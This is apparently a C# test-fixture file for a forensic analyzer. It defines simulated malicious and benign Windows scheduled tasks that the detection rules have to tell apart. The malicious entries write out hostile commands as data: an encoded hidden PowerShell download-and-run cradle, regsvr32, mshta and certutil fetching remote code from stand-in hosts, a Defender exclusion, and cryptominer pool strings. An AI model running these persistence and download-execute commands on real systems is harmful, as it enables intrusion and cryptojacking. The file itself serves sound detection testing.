using System.Text;
using Forensics.Analyzer.Risk;
using static Forensics.Analyzer.Tests.Detection.WindowsBaseHost;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>Scheduled tasks of Windows: what miners and worms register, and what administrators and vendors do.</summary>
internal static class WindowsTaskPlants
{
    private const string Id = "W-TASK";
    private const string Tasks = "/Windows/System32/Tasks/";

    /// <summary>A program with what every miner has in it.</summary>
    public static PlantedPe Miner { get; } = new() { Seed = "miner", Strings = ["stratum+tcp://pool.hashvault.pro:3333", "randomx", "donate-level", "cryptonight", "mining.subscribe"] };

    /// <summary>One that no YARA rule knows: a pool without a scheme, and few words.</summary>
    public static PlantedPe UnknownMiner { get; } = new() { Seed = "unknown", Strings = ["gulf.moneroocean.stream:10128", "rx/0", "job_id"] };

    public static IReadOnlyList<Plant> All { get; } =
    [
        .. new Plant[]
        {
            new(Id, "loud-encoded-cradle", PlantKind.Loud, tree => Task(tree, "Updater", Exec("powershell.exe", "-NoP -W Hidden -Enc " + Encoded("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')")), author: null, principal: "S-1-5-18", hidden: true, triggers: Every("PT40M"))) { Rule = "powershell-download-run", AtLeast = Severity.Critical },
            new(Id, "loud-regsvr32", PlantKind.Loud, tree => Task(tree, "Sync", Exec("regsvr32.exe", "/s /n /u /i:http://203.0.113.9/x.sct scrobj.dll"))) { Rule = "system-program-remote-code" },
            new(Id, "loud-mshta-in-cmd", PlantKind.Loud, tree => Task(tree, "Sync2", Exec(@"C:\Windows\System32\cmd.exe", "/c \"cd /d C:\\Users & start \"\" /b ^m^shta http://198.51.100.7/x.hta\""))) { Rule = "system-program-remote-code" },
            new(Id, "loud-certutil", PlantKind.Loud, tree => Task(tree, "Refresh", Exec("cmd", @"/c certutil -urlcache -split -f http://203.0.113.9/m.exe C:\ProgramData\m.exe && C:\ProgramData\m.exe"))) { Rule = "system-program-remote-code" },
            new(Id, "loud-defender-exclusion", PlantKind.Loud, tree => Task(tree, "Tune", Exec("powershell", @"-c Add-MpPreference -ExclusionPath C:\ProgramData"), principal: "SYSTEM")) { Rule = "defender-exclusion" },
            new(Id, "loud-known-name", PlantKind.Loud, tree => Task(tree, "Mysa1", Exec(@"C:\Windows\System32\rundll32.exe", "c:\\windows\\debug\\item.dat,ServiceMain aaaa"), principal: "S-1-5-18")) { Rule = "known-name" },
            new(Id, "loud-stream", PlantKind.Loud, tree => Task(tree.File("/ProgramData/readme.txt", "read me"), "Notes", Exec("wscript.exe", @"C:\ProgramData\readme.txt:run.vbs"))) { Rule = "stream-started" },
            new(Id, "quiet-miner-in-programdata", PlantKind.Quiet, tree => Task(tree.Pe("/ProgramData/SysHost/syshost.exe", Miner), "SysHost", Exec(@"C:\ProgramData\SysHost\syshost.exe", ""), principal: "S-1-5-18")) { AtLeast = Severity.Critical, Entries = [Tasks + "SysHost"] },
            new(Id, "quiet-miner-with-variables", PlantKind.Quiet, tree => Task(tree.Pe("/Users/alice/AppData/Roaming/Sync Host/agent.exe", UnknownMiner), "Agent", Exec(@"%APPDATA%\Sync Host\agent.exe", "-s"), principal: @"WS01\alice")) { Rule = "target-miner", AtLeast = Severity.Critical, Entries = [Tasks + "Agent"] },
            new(Id, "quiet-miner-behind-batch", PlantKind.Quiet, tree => Task(tree.File("/ProgramData/Vendor/start.cmd", "@echo off\r\nset DIR=%~dp0\r\nif exist \"%DIR%bin\\host.exe\" start \"\" /b \"%DIR%bin\\host.exe\"\r\n").Pe("/ProgramData/Vendor/bin/host.exe", Miner), "Vendor", Exec("cmd.exe", @"/c C:\ProgramData\Vendor\start.cmd"))) { AtLeast = Severity.Critical, Entries = [Tasks + "Vendor"] },
            new(Id, "quiet-script-that-downloads", PlantKind.Quiet, tree => Task(tree.File("/ProgramData/Vendor/check.ps1", Utf16("# check\r\n$u = 'http://203.0.113.9/p'\r\niex (New-Object Net.WebClient).DownloadString('http://203.0.113.9/p')\r\n")), "Check", Exec("powershell.exe", @"-NoProfile -ExecutionPolicy Bypass -File C:\ProgramData\Vendor\check.ps1"), principal: "S-1-5-18")) { Rule = "powershell-download-run", Entries = [Tasks + "Check"] },
            new(Id, "quiet-unquoted-path", PlantKind.Quiet, tree => Task(tree.Pe("/Program.exe", Miner), "Backup", Exec("cmd.exe", @"/c C:\Program Files\Backup Tool\backup.exe /daily"))) { AtLeast = Severity.Critical, Entries = [Tasks + "Backup"] },
            new(Id, "quiet-dll-by-rundll32", PlantKind.Quiet, tree => Task(tree.Pe("/Windows/Fonts/msdata.dll", new PlantedPe { Seed = "dll" }), "Data", Exec("rundll32", @"C:\Windows\Fonts\msdata.dll,Start"))) { Rule = "target-odd-place", Entries = [Tasks + "Data"] },
            new(Id, "quiet-borrowed-name", PlantKind.Quiet, tree => Task(tree.Pe("/ProgramData/Microsoft/svchost.exe"), "Host", Exec(@"C:\ProgramData\Microsoft\svchost.exe", "-k netsvcs"), principal: "S-1-5-18")) { Rule = "target-imitated-name", Entries = [Tasks + "Host"] },
            new(Id, "quiet-among-those-of-windows", PlantKind.Quiet, tree => Task(tree.Pe("/ProgramData/Telemetry/dmclient.exe"), @"Microsoft\Windows\Feedback\DmClientSync", Exec(@"C:\ProgramData\Telemetry\dmclient.exe", "utcwnf"), principal: "S-1-5-18")) { Rule = "imitated-name", Entries = [Tasks + "Microsoft/Windows/Feedback/DmClientSync"] },
            new(Id, "quiet-job-file", PlantKind.Quiet, tree => tree.File("/Windows/Tasks/At1.job", Job(@"C:\Windows\Help\winhelp.exe", "")).Pe("/Windows/Help/winhelp.exe", Miner)) { AtLeast = Severity.Critical },
            new(Id, "dormant-miner-in-programdata", PlantKind.Dormant, tree => Task(tree.Pe("/ProgramData/SysHost/syshost.exe", Miner), "SysHost", Exec(@"C:\ProgramData\SysHost\syshost.exe", ""), principal: "S-1-5-18", enabled: false)) { TwinOf = "quiet-miner-in-programdata" },
            new(Id, "dormant-regsvr32", PlantKind.Dormant, tree => Task(tree, "Sync", Exec("regsvr32.exe", "/s /n /u /i:http://203.0.113.9/x.sct scrobj.dll"), triggers: "<BootTrigger><Enabled>false</Enabled></BootTrigger>")) { TwinOf = "loud-regsvr32" },
            new(Id, "benign-stock", PlantKind.Benign, _ => { }),
            new(Id, "benign-encoded-by-management", PlantKind.Benign, tree => Task(tree, @"Microsoft\Configuration Manager\Configuration Manager Health Evaluation", Exec(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "-NoProfile -NonInteractive -ExecutionPolicy Bypass -EncodedCommand " + Encoded("Get-CimInstance Win32_OperatingSystem | Out-File C:\\Windows\\CCM\\Logs\\os.txt")), author: "Microsoft", principal: "S-1-5-18")),
            new(Id, "benign-backup-script", PlantKind.Benign, tree => Task(tree.File("/Scripts/backup.ps1", "Compress-Archive -Path D:\\Data -DestinationPath D:\\Backup\\data.zip\r\n& 'C:\\Program Files\\7-Zip\\7z.exe' a x.7z\r\n"), "Nightly backup", Exec("powershell.exe", @"-NoProfile -File C:\Scripts\backup.ps1"), author: @"WS01\admin", principal: "SYSTEM")),
            new(Id, "benign-vendor-updater", PlantKind.Benign, tree => Task(tree.Pe("/Program Files/Google/Update/GoogleUpdate.exe", new PlantedPe { Seed = "gu", IsSigned = true }), "GoogleUpdateTaskMachineCore", Exec(@"C:\Program Files\Google\Update\GoogleUpdate.exe", "/c"), principal: "S-1-5-18", triggers: Every("PT1H"))),
            new(Id, "benign-updater-in-profile", PlantKind.Benign, tree => Task(tree.Pe("/Users/alice/AppData/Local/Programs/Editor/Update.exe", new PlantedPe { Seed = "sq" }), "EditorUpdate", Exec(@"%LOCALAPPDATA%\Programs\Editor\Update.exe", "--processStart editor.exe"), author: "Editor", principal: "alice")),
            new(Id, "benign-cloud-agent", PlantKind.Benign, tree => Task(tree.Pe("/WindowsAzure/Packages/WaAppAgent.exe", new PlantedPe { Seed = "wa", IsSigned = true }), "Azure Agent Watchdog", Exec("powershell.exe", "-NonInteractive -enc " + Encoded("if ((Get-Service RdAgent).Status -ne 'Running') { Start-Service RdAgent }")), author: "Azure", principal: "S-1-5-18", triggers: Every("PT1H"))),
            new(Id, "benign-hidden-vendor", PlantKind.Benign, tree => Task(tree.Pe("/Program Files/Dell/SupportAssist/agent.exe", new PlantedPe { Seed = "dell", IsSigned = true }), @"Dell\SupportAssist Refresh", Exec(@"C:\Program Files\Dell\SupportAssist\agent.exe", "/refresh"), author: null, principal: "S-1-5-18", hidden: true)),
        }.Select(plant => plant with { Host = PlantHost.Windows }),
    ];

    /// <summary>What <c>-EncodedCommand</c> takes.</summary>
    public static string Encoded(string command) => Convert.ToBase64String(Encoding.Unicode.GetBytes(command));

    private static byte[] Utf16(string text) => [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(text)];

    /// <summary>A task of the old service, [MS-TSCH] 2.4.</summary>
    private static byte[] Job(string application, string parameters)
    {
        var job = new List<byte>(new byte[70]);
        foreach (string text in (string[])[application, parameters, "", "SYSTEM", ""])
        {
            job.AddRange(text.Length == 0 ? [0, 0] : [.. BitConverter.GetBytes((ushort)(text.Length + 1)), .. Encoding.Unicode.GetBytes(text + "\0")]);
        }
        job.AddRange([0, 0, 0, 0]);
        byte[] bytes = [.. job, 0, 0];
        BitConverter.GetBytes((ushort)1).CopyTo(bytes, 2);
        BitConverter.GetBytes((ushort)70).CopyTo(bytes, 20);
        BitConverter.GetBytes((ushort)job.Count).CopyTo(bytes, 22);
        return bytes;
    }
}
